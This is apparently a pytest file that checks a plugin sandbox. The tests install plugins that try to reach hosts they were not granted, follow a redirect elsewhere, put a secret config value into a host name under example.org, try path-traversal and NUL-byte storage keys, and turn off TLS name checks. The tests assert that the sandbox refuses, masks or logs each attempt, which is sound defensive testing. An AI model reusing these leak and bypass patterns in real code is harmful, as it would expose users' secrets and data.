"""What plugins reach, keep and are refused, from real containers."""

import asyncio
import json
import ssl
import threading
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from heimnetz_common.testing import KeyRing, free_port, fresh_database
from heimnetz_sandbox.broker.storing import Storage
from heimnetz_sandbox.testing import Stand, package, standing

from .conftest import certified, own_address

pytestmark = pytest.mark.engine

# The only servers that a test has are on this machine, which is near.
FAR = "from heimnetz_sandbox import chambers; chambers.read_near = lambda: ()"
FETCH = """
import json, socket, urllib.request

def run(input, context):
    found = {}
    for url in input["urls"]:
        try:
            found[url] = urllib.request.urlopen(url, timeout=10).read().decode()
        except Exception as error:
            found[url] = f"{type(error).__name__}: {error}"
        try:
            found["fetch " + url] = context.fetch(url, timeout=10).text
        except Exception as error:
            found["fetch " + url] = f"{type(error).__name__}: {error}"
    try:
        socket.create_connection(("192.0.2.1", 80), 5)
        found["raw"] = "reached"
    except OSError as error:
        found["raw"] = error.strerror
    return found
"""


@pytest.fixture(scope="module")
def stand(place: Path, postgres_url: str, key_ring: KeyRing) -> Iterator[Stand]:
    with standing(place, postgres_url, key_ring, FAR) as stand:
        yield stand


@contextmanager
def a_site(tls: ssl.SSLContext | None = None, leads_to: str | None = None) -> Iterator[str]:
    """A web server of this machine, as `address:port`; it answers or sends elsewhere."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200 if leads_to is None else 302)
            if leads_to is not None:
                self.send_header("location", leads_to)
            self.send_header("content-length", "5")
            self.end_headers()
            self.wfile.write(b"hello")

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer((own_address(), 0), Handler)
    if tls is not None:
        server.socket = tls.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"{server.server_address[0]}:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def site() -> Iterator[str]:
    with a_site() as place:
        yield place


@pytest.mark.attack(row=44, what="what was not granted, from a container")
def test_a_plugin_reaches_what_it_was_granted_and_nothing_else(stand: Stand, site: str) -> None:
    other = f"{own_address()}:{free_port()}"
    granted = {"network": [{"to": site, "reason": "The test's server"}]}
    stand.install("fetcher", FETCH, permissions=granted)
    urls = [f"http://{site}/", f"http://{other}/", "http://example.org/"]

    run = stand.run("fetcher", {"urls": urls})

    result = run["result"]
    assert result[urls[0]] == "hello"
    assert "403" in result[urls[1]]
    assert "403" in result[urls[2]]
    assert result[f"fetch {urls[0]}"] == "hello"
    assert result[f"fetch {urls[1]}"].startswith("PermissionError")
    assert "example.org:80 is not granted" in result[f"fetch {urls[2]}"]
    assert result["raw"] == "Network is unreachable"
    log = stand.logs(run["id"])
    assert f"sandbox connected to {site}" in log
    assert "sandbox refused: example.org:80 is not granted" in log
    stand.run("fetcher", {"urls": urls})
    seen = stand.call("GET", "/v1/plugins/fetcher/behaviour").json()["items"]
    assert {(one["target"], one["is_granted"]) for one in seen} == {
        (site, True),
        (other, False),
        ("example.org:80", False),
        ("192.0.2.1:80", False),
    }
    assert len(announced(stand, "fetcher")) == 4


@pytest.mark.attack(row=49, what="a redirect from a granted host to another")
def test_a_redirect_to_what_is_not_granted_is_refused_like_any_request(
    stand: Stand, site: str
) -> None:
    with a_site(leads_to=f"http://{site}/") as first:
        granted = {"network": [{"to": first, "reason": "The test's server"}]}
        stand.install("led", FETCH, permissions=granted)

        run = stand.run("led", {"urls": [f"http://{first}/"]})

    assert "403" in run["result"][f"http://{first}/"]
    log = stand.logs(run["id"])
    assert f"sandbox connected to {first}" in log
    assert f"sandbox refused: {site} is not granted" in log


def announced(stand: Stand, plugin: str) -> list[bytes]:
    rows = stand.fetch(
        "SELECT document FROM outbox WHERE event_type = 'heimnetz.behaviour.observed.v1'"
    )
    return [row["document"] for row in rows if f'"{plugin}"'.encode() in row["document"]]


NODE_FETCH = """
const fs = require('node:fs');
const http = require('node:http');
const https = require('node:https');

const ask = (client, url, options) =>
  new Promise((resolve, reject) => {
    client.get(url, options, (answer) => answer.setEncoding('utf8').on('data', resolve)).on('error', reject);
  });

exports.run = async ({ site, secure }, context) => {
  const ca = fs.readFileSync(context.files['ca.crt'], 'utf8');
  // The certificate is of another name: what is asked here is the way.
  const options = { ca, checkServerIdentity: () => undefined };
  return [
    await (await fetch(`http://${site}/`)).text(),
    await ask(http, `http://${site}/`, {}),
    (await context.fetch(`http://${site}/#top`)).text,
    await ask(https, `https://${secure}/`, options),
    await ask(https, `https://${secure}/`, {}).catch((error) => error.code),
    await fetch(`https://${secure}/`).catch((error) => error.cause.code),
  ];
};
"""


def test_a_node_plugin_reaches_what_it_was_granted_with_its_own_clients(
    stand: Stand, tmp_path: Path
) -> None:
    with certified(tmp_path, own_address()) as (tls, _), a_site() as site, a_site(tls) as secure:
        granted = [{"to": place, "reason": "The test's server"} for place in (site, secure)]
        stand.install(
            "node-fetcher",
            files={"main.js": NODE_FETCH},
            runtime="node",
            entry_point="main.js:run",
            permissions={"network": granted},
        )
        authority = (tmp_path / "ca.crt").read_bytes()
        answer = stand.call(
            "POST",
            "/v1/plugins/node-fetcher/runs",
            data={"input": json.dumps({"site": site, "secure": secure})},
            files=[("file", ("ca.crt", authority))],
            headers={"prefer": "wait=60"},
        ).json()

    unknown = "UNABLE_TO_VERIFY_LEAF_SIGNATURE"
    assert answer["result"] == ["hello", "hello", "hello", "hello", unknown, unknown], answer


@pytest.mark.attack(row=50, what="a secret as a host name")
def test_a_secret_in_a_name_that_is_refused_is_masked(stand: Stand) -> None:
    schema = {"type": "object", "properties": {"key": {"type": "string", "secret": True}}}
    code = FETCH.replace('input["urls"]', "[f\"http://{context.config['key']}.example.org/\"]")
    data = package("leaking", code, None, configuration=schema)
    stand.install_bytes("leaking", data, {"key": "correcthorse"})

    run = stand.run("leaking")

    assert "***.example.org" in stand.logs(run["id"])
    documents = b"".join(announced(stand, "leaking"))
    assert b"***.example.org:80" in documents
    assert b"correcthorse" not in documents


KEEPING = """
def run(input, context):
    kept = context.storage
    count = int(kept.get("count") or 0) + 1
    kept.put("count", str(count))
    kept.put("by/day", b"\\x00\\xff")
    kept.put("gone", b"x")
    kept.delete("gone")
    found = {"count": count, "keys": kept.keys(), "prefix": kept.keys("by/"), "none": kept.get("none"),
             "bytes": list(kept.get("by/day"))}
    for name, call in {
        "path": lambda: kept.get("../other"),
        "large": lambda: kept.put("large", b"x" * 5000),
        "huge": lambda: kept.put("huge", b"x" * (2 << 20)),
        "nul": lambda: kept.get("a" + chr(0)),
    }.items():
        try:
            found[name] = repr(call())
        except OSError as error:
            found[name] = f"OSError {error.errno}"
        except ValueError:
            found[name] = "ValueError"
    return found
"""
STORAGE = {"storage": {"size": "4 KiB", "reason": "Counts"}}


@pytest.mark.attack(row=53, what="keys with paths, values too large")
def test_what_a_plugin_keeps_is_there_in_the_next_run_within_its_bytes(stand: Stand) -> None:
    stand.install("keeper", KEEPING, permissions=STORAGE)

    first, second = stand.run("keeper")["result"], stand.run("keeper")["result"]

    assert (first["count"], second["count"]) == (1, 2)
    assert second["keys"] == ["by/day", "count"]
    assert second["prefix"] == ["by/day"]
    assert second["bytes"] == [0, 255]
    assert second["none"] is None
    assert (second["path"], second["nul"]) == ("ValueError", "ValueError")
    assert (second["large"], second["huge"]) == ("OSError 28", "ValueError")


@pytest.mark.attack(row=52, what="another plugin’s storage")
def test_a_plugin_without_the_grant_keeps_nothing_and_none_sees_anothers(stand: Stand) -> None:
    stand.install("careful", KEEPING, permissions=STORAGE)
    stand.run("careful")
    code = "def run(input, context): return {'keys': context.storage.keys()}"
    stand.install("nosy", code, permissions=STORAGE)
    stand.install("poor", code)

    nosy, poor = stand.run("nosy"), stand.run("poor")

    assert nosy["result"] == {"keys": []}, nosy["reason"]
    assert "storage is not granted" in poor["reason"]


@pytest.mark.attack(row=53, what="fifty writers at once")
async def test_fifty_writers_at_once_stay_within_the_quota(postgres_url: str) -> None:
    async with fresh_database(postgres_url, "sandbox") as database:
        kept = Storage(database, "p", 1000)

        answers = await asyncio.gather(
            *(kept.answer("PUT", f"/storage/key-{number}", b"x" * 93) for number in range(50))
        )

        listed = await kept.answer("GET", "/storage", b"")
    assert sorted(Counter(answer.status for answer in answers)) in ([204, 503, 507], [204, 507])
    assert sum(answer.status == 204 for answer in answers) == 10 == len(json.loads(listed.body))
